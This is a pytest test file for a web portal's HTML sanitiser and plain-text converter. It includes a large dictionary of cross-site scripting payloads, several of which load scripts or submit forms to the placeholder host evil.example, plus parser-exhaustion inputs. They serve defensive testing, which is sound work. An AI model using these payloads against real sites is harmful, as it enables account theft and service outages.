"""What people write in the editor: sanitised HTML is a fixed point and holds nothing active; plain text comes back."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal import richtext
from portal.nesting import is_too_deep

MINE, FOREIGN = "a" * 32, "f" * 32
PICTURE = f'<img src="/attachments/{MINE}/image-1.png" alt="The screen" width="640" height="480">'
TAGS = {"p", "div", "br", "ul", "ol", "li", "blockquote", "pre", "b", "strong", "i", "em", "code", "a", "img"}
ATTRIBUTES = {"a": {"href", "rel"}, "img": {"src", "alt", "width", "height"}}
ADDRESS = re.compile(rf"/attachments/{MINE}/[\w.-]+")

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script of another site": '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
    "handler": '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(1)>',
    "handler without a space": "<svg/onload=alert(1)><b/onpointerenter=alert(1)>",
    "javascript link": '<a href="javascript:alert(1)">a</a>',
    "javascript link with entities": '<a href="&#106;avascript&colon;alert(1)">a</a>',
    "javascript link with white space": '<a href=" java\nscript:alert(1)">a</a><a href="\x01javascript:alert(1)">a</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">a</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "other schemes": '<a href="file:///etc/passwd">a</a><a href="blob:x">a</a><a href="ftp://x">a</a>',
    "data picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:image/png;base64,AAAA">',
    "external pictures": '<img src="https://evil.example/p"><img src="//evil.example/p"><img src="\\\\evil.example">',
    "picture of the portal": '<img src="/sign-out"><img src="attachments/x"><img src="/attachments/../sign-out">',
    "picture of another": f'<img src="/attachments/{FOREIGN}/image-1.png">',
    "picture like one's own": f'<img src="/attachments/{MINE}/../../sign-out"><img src="/attachments/{MINE}/x?y">',
    "own picture from another site": f'<img src="https://evil.example/attachments/{MINE}/image-1.png">',
    "srcset": f'<img srcset="https://evil.example/p 2x" src="/attachments/{MINE}/a.png" lowsrc=//evil.example>',
    "picture element": '<picture><source srcset="//evil.example/p"><img src=x></picture>',
    "sizes": f'<img src="/attachments/{MINE}/a.png" width="1e9" height="100%"><img width=9999999 height=-1>',
    "svg": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="//evil.example/#x"/></svg>',
    "svg animation": '<svg><animate href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "style element": "<style>@import '//evil.example/x.css'; body{display:none}</style>",
    "style attribute": '<p style="background:url(//evil.example)" class="btn" id="request">x</p>',
    "form": '<form action="//evil.example"><input name="password"><button formaction="//evil.example"></form>',
    "htmx": '<div hx-get="/sign-out" hx-trigger="load" hx-on:click="alert(1)">x</div><b data-hx-post="/drafts">x</b>',
    "htmx outside of a tag": "<hx-partial hx-target=body>x</hx-partial><template hx>x</template>",
    "template": "<template><script>alert(1)</script></template>{{ 1234*4321 }}",
    "iframe": '<iframe src="//evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="//evil.example"></object><embed src="//evil.example"><applet code=x></applet>',
    "media": '<video src="//evil.example" poster="//evil.example"><audio src="//evil.example" autoplay>',
    "meta, base, link": '<meta http-equiv=refresh content="0;//evil.example"><base href="//evil.example">',
    "comment": "<!-- <img src=x onerror=alert(1)> --><!--><script>alert(1)</script-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "declarations": "<!DOCTYPE x [<!ENTITY x '<b>'>]><?xml-stylesheet href='javascript:alert(1)'?><![CDATA[<script>]]>",
    "half a tag": "<img src=x onerror=alert(1) <p",
    "custom element": "<rich-text data-words='{}'></rich-text><draft-form data-url=//evil.example></draft-form>",
    "names of fields": '<a name="csrf_token" id="csrf_token">x</a><img name="body" id="documentElement">',
    "mutation: noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation: math": "<math><mtext><table><mglyph><style><!--</style><img alt=\"--&gt;&lt;img onerror=1&gt;\">",
    "mutation: svg": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "mutation: form in form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation: raw text": "<xmp><p id='</xmp><img onerror=1>'><noembed><img title='</noembed><script>'><plaintext>",
    "mutation: title and textarea": "<svg><title><textarea><p title='</textarea></title><img src=x onerror=alert(1)>'>",
    "mutation: link in link": "<a href=//a.example><table><a href=//b.example><table><a href=//c.example>x",
    "mutation: paragraph in paragraph": "<p><marquee><p>x<object><p>y",
    "mutation: note": "<math><annotation-xml encoding='text/html'><style><img onerror=1></style></annotation-xml>",
    "mutation: lines of pre": "<pre>\n\n\n\n<b>x</b></pre>",
    "mutation: backtick": "<img src=`x` alt='``onerror=1'><p>`</p>",
    "mutation: entities": "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;img src=x onerror=alert(1)&amp;gt;",
}  # fmt: skip
PIECES = [
    *(f"<{tag}>" for tag in sorted(TAGS)),
    *(f"</{tag}>" for tag in sorted(TAGS - {"br", "img"})),
    *("<table>", "<tr>", "<td>", "</table>", "<svg>", "</svg>", "<math>", "<mtext>", "<mglyph>", "<style>", "</style>"),
    *("<title>", "</title>", "<template>", "<form>", "<marquee>", "<object>", "<noscript>", "<textarea>", "<select>"),
    *("<!--", "-->", "&lt;", "&amp;", "&#0;", "&nbsp;", "\n", " ", "<", ">", "'", '"', "\u0338"),
    *("<a href=https://a.example>", "<a href=/tickets>", PICTURE, "<b x=1>", "<b x=2>"),
    *HOSTILE.values(),
]  # fmt: skip


class Inventory(HTMLParser):
    """Every tag with its attributes, and everything that is neither a tag nor text."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.others = [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def check(html):
    """What is stored for ``html``, after checking that nothing but what is allowed is in it."""
    stored = richtext.message(html, {MINE})
    assert richtext.message(stored, {MINE}) == stored == richtext.shown(stored, {MINE})
    found = Inventory(stored)
    assert found.others == []
    for tag, attributes in found.tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        assert re.match(r"https?:|mailto:|(?![\w+.-]*:)", attributes.get("href", ""))
        assert ADDRESS.fullmatch(attributes.get("src", f"/attachments/{MINE}/x"))
        assert attributes.get("rel", "noopener noreferrer nofollow") == "noopener noreferrer nofollow"
        assert all(re.fullmatch(r"\d{0,5}", attributes.get(side, "")) for side in ("width", "height"))
    return stored


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE)
def test_nothing_hostile_is_left(html):
    stored = check(f"<p>before</p>{html}<p>after</p>")
    assert "before" in stored
    assert not re.search(r"<[^>]*(evil|alert|script:|data-|hx-|class=|style=|id=)", stored)


@settings(max_examples=400, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=12).map("".join))
def test_sanitised_html_is_a_fixed_point_and_holds_only_what_is_allowed(html):
    check(html)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text())
def test_any_text_is_safe_and_makes_nothing_but_paragraphs(text):
    check(text)
    assert {tag for tag, _ in Inventory(str(richtext.paragraphs(text))).tags} <= {"p", "br"}


FORMATTED = (
    "<p>One <b>bold</b>, <strong>strong</strong>, <i>it</i>, <em>em</em>, <code>x</code></p><div>two<br>three</div>"
    "<ul><li>a<ol><li>b</li></ol></li></ul><blockquote>q</blockquote><pre>a\n  b</pre>" + PICTURE
)


def test_what_the_editor_makes_is_kept_as_it_is():
    assert check(FORMATTED) == FORMATTED


@pytest.mark.parametrize(
    "address", ["https://example.org/a?b=1#c", "http://example.org", "mailto:aide@example.org", "/tickets/00000001"]
)
def test_link_leads_to_the_web_to_mail_or_into_the_portal(address):
    stored = check(f'<a href="{address}" target="_blank">here</a>')
    assert stored == f'<a href="{address}" rel="noopener noreferrer nofollow">here</a>'


def test_words_of_what_is_taken_away_stay():
    assert check("<h1>Title</h1><table><tr><td>Monday</td></tr></table><font color=red>red</font>") == "TitleMondayred"


def test_pictures_are_named_and_renamed():
    assert richtext.picture_ids(PICTURE * 2) == {MINE}
    renamed = richtext.rename_pictures(PICTURE, {MINE: FOREIGN})
    assert (richtext.picture_ids(renamed), renamed.replace(FOREIGN, MINE)) == ({FOREIGN}, PICTURE)


FONTS = [f"<font color={number}>" for number in range(800)]
HIDING = {
    "comment": "<!--</font>-->",
    "comment that ends at once": "<!--><!--</font>-->",
    "comment that ends with a bang": "<!--x--!><!--</font>-->",
    "attribute": '<i title="</font>"></i>',
    "attribute with an odd name": '<i ="="></font>">',
    "declaration": "<!x </font>>",
    "instruction": "<?x </font>>",
    "closing tag without a name": "</?x </font>>",
    "character data": "<svg><![CDATA[ > </font> ]]></svg>",
    "title": "<title></font></title>",
    "field": "<textarea></font></textarea>",
    "style": "<style></font></style>",
    "script": "<script><!--<script></script></font>--></script>",
    "cell": "<table><td></font></table>",
    "blocks": "<div>" * 9 + "</font>" + "</div>" * 9,
    "another letter": "</\u017fpan></font x><kbd></\u212abd>",
}


@pytest.mark.parametrize(
    "html",
    [
        "<ul><li>" * 25_000,
        "<ul><li>" * 25_000 + "</li></ul>" * 25_000,
        "<p>" + "".join(f"<b x={number}>" for number in range(100)) + "</p>" + "<p>x</p>" * 20_000,
        "<table><a href=x>" * 12_000,
        "<blockquote>" * 1_000 + "x",
        "<pre>" + "\n" * 190_000,
        "<p>&" * 60_000,
        "<" * 200_000,
        "<!--" * 50_000,
        "<p>" + "".join(font + HIDING["comment"] for font in FONTS) + "<p>x" * 20_000,
        "&" * 1_900_000,
    ],
    ids=[
        *("lists", "closed lists", "formats", "tables", "quotes", "lines", "paragraphs", "brackets", "comments"),
        *("hidden closings", "signs"),
    ],
)
def test_html_that_nobody_writes_is_read_in_a_moment(html):
    began = time.monotonic()
    check(f"first words {html} last words")
    assert time.monotonic() - began < 30  # it took minutes


@pytest.mark.parametrize("hiding", HIDING.values(), ids=HIDING)
def test_closing_tag_that_closes_nothing_hides_no_formatting(hiding):
    """A parser would write every format that is open again for every paragraph: gigabytes."""
    assert is_too_deep("<p>" + "".join(font + hiding for font in FONTS) + "<p>x" * 20_000)


@pytest.mark.parametrize(
    "html",
    [
        "<p>" + "".join(FONTS) + "<p>x" * 20_000 + "<!--" + "</font>" * 800,
        "<p>" + "".join(FONTS) + "<plaintext>" + "</font>" * 800,
        "".join(f"<a href={number}><table>" for number in range(800)),
        "".join(f"<nobr x={number}>" for number in range(800)),
        "<b " + " ".join(f"x{number}" for number in range(8_000)) + ">" + "<p>x" * 70_000,
        "<div><!--</div>-->" * 20_000,
        "<table><tr><td>" * 7_000 + "</td></tr></table>" * 7_000,
        "<li><dd>" * 25_000,
        "<svg><![CDATA[<p>]]><div>" * 800,
    ],
    ids=["comment to the end", "text to the end", "links", "nobr", "attributes", "divs", "cells", "items", "data"],
)
def test_what_takes_a_parser_long_is_too_deep(html):
    assert is_too_deep(html)


WORD = (
    '<p class="MsoNormal" style="margin-bottom:0cm"><b><span lang="FR-CA" style="font-size:12.0pt">Bonjour</span></b> '
    'ceci <i>est</i> <a href="https://a.example/{0}">un lien</a>, <font color="#{0:06d}">en rouge</font><o:p></o:p></p>'
)
HONEST = {
    "word processor": "<!--StartFragment-->" + "".join(map(WORD.format, range(480))) + "<!--EndFragment-->",
    "bold around everything": "<b>" + "<p>Une phrase <i>en</i> gras</p>" * 3_500 + "</b>",
    "items without an end": "<ul>" + "<li>un<li><b>deux</b>" * 4_000 + "</ul>",
    "table": "<table><tbody>" + "<tr><td><p><b>a</b></p></td><td>b</td></tr>" * 2_000 + "</tbody></table>",
    "lines of the editor": "<div><b>x</b> a &lt; b<br></div>" * 3_500,
    "pictures": f"<p>a</p>{PICTURE}<p><i>b</i></p>" * 700,
}


@pytest.mark.parametrize("html", HONEST.values(), ids=HONEST)
def test_long_text_that_people_paste_keeps_its_shape(html):
    stored = check(html)
    assert 80_000 < len(html) < 150_000
    assert all(stored.count(f"<{tag}>") == html.count(f"<{tag}>") for tag in ("b", "i", "li", "div"))


def test_html_too_deep_to_be_read_keeps_its_words():
    stored = check("<p>first</p>" + "<div>" * 500 + "second &amp; third")
    assert stored == "<p>first</p><p>second &amp; third</p>"


PLAIN = {
    "a": "<p>a</p>",
    "a\nb\n\nc": "<p>a<br>b</p><p>c</p>",
    "\n\na\n\n\n \nb\n": "<p>a</p><p>b</p>",
    "<b>&amp;</b>": "<p>&lt;b&gt;&amp;amp;&lt;/b&gt;</p>",
    "  indented\n  code  x": "<p>  indented<br>  code  x</p>",
    "": "",
    " \n ": "",
}


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_becomes_paragraphs(text):
    assert richtext.paragraphs(text) == PLAIN[text]


LINE = st.text(st.characters(exclude_categories=["Cc", "Cs", "Zl", "Zp"]), min_size=1).filter(str.strip)
BLOCK = st.lists(LINE, min_size=1, max_size=4).map("\n".join)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(BLOCK, max_size=4).map("\n\n".join))
def test_plain_text_comes_back_from_its_paragraphs_and_from_the_editor(text):
    stored = str(richtext.paragraphs(text))
    assert richtext.plain(stored) == text
    assert richtext.plain(check(stored)) == text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p>\n<p>b</p>", "a\n\nb"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("<ul><li>a</li><li>b</li></ul><p>c</p>", "a\nb\n\nc"),
        ("<p>one <b>two</b>\n<i>three</i></p>", "one two three"),
        ("<pre>a\n  b</pre><p>c</p>", "a\n  b\n\nc"),
        (f"<p>before {PICTURE} after</p>", "before  after"),
        ('<a href="https://example.org">here</a> &lt;b&gt;', "here <b>"),
        ("<p>one \t\n \n\ttwo\n</p>", "one two "),
        ("<p>one  two\tthree</p>", "one  two\tthree"),
        ("", ""),
    ],
)
def test_plain_words_of_formatted_text(html, text):
    assert richtext.plain(html) == text


@pytest.mark.parametrize("blank", [" ", "\t", "\u00a0", "\n", " \n", "\n\t", "\r", "\x0c"])
def test_plain_words_of_blanks_without_end_are_read_in_a_moment(blank):
    """Nobody else is served meanwhile, so a minute here is a minute for all."""
    began = time.monotonic()
    for html in (blank * 190_000, f"<p>a{blank * 190_000}b</p>", f"<pre>a{blank * 190_000}b</pre>"):
        assert set(richtext.plain(html).split()) <= {"a", "b"}
    assert time.monotonic() - began < 30  # it took minutes
